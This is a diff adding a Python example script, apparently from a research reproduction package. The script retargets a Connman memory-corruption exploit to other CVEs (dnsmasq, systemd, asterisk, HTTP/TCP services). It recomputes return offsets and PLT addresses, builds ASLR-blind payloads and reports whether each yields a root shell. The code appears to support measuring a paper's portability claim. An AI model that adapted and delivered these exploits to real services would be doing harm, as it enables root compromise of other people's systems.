@@ -1,0 +1,51 @@
+#!/usr/bin/env python3
+"""§V: pointing the Connman tooling at other vulnerabilities.
+
+"Minimal modification" (DNS family: dnsmasq CVE-2017-14493, systemd
+CVE-2018-9445, asterisk CVE-2018-19278) means re-running recon against the
+new binary — same builders, new addresses and frame offsets.  "Moderate
+modification" (HTTP/TCP CVEs) additionally swaps the packet-creation
+algorithm: the same stack image rides in a POST body or a control packet
+instead of a DNS label stream.
+
+Run:  python examples/adapt_other_cves.py
+"""
+
+from repro.core import AttackScenario, attacker_knowledge
+from repro.defenses import WX_ASLR
+from repro.exploit import builder_for
+from repro.othercves import (
+    ALL_SPECS,
+    AdaptedService,
+    adapt_exploit,
+    deliver_to_service,
+    knowledge_for_service,
+)
+
+
+def main() -> None:
+    print(__doc__)
+
+    connman_knowledge = attacker_knowledge(AttackScenario("x86", "ref", WX_ASLR))
+    print(f"reference (connman/x86): ret_offset=name+{connman_knowledge.ret_offset}, "
+          f"memcpy@plt={connman_knowledge.plt['memcpy']:#010x}")
+    print()
+
+    for spec in ALL_SPECS:
+        service = AdaptedService(spec, profile=WX_ASLR)
+        knowledge = knowledge_for_service(service, aslr_blind=True)
+        builder = builder_for(spec.arch, WX_ASLR)
+        exploit = adapt_exploit(builder, service, aslr_blind=True)
+        report = deliver_to_service(exploit, service)
+        verdict = "ROOT SHELL" if report.got_root_shell else report.event.describe()[:40]
+        print(f"{spec.name:<18} {spec.cve_id:<15} [{spec.protocol:>4}/"
+              f"{spec.adaptation_effort:<8}]")
+        print(f"  retargeted facts : ret_offset=name+{knowledge.ret_offset}, "
+              f"memcpy@plt={knowledge.plt['memcpy']:#010x}, bss={knowledge.bss:#010x}")
+        print(f"  delivery         : {spec.protocol} transport -> {verdict}")
+    print()
+    print("Same builders, new addresses — the §V portability claim, measured.")
+
+
+if __name__ == "__main__":
+    main()
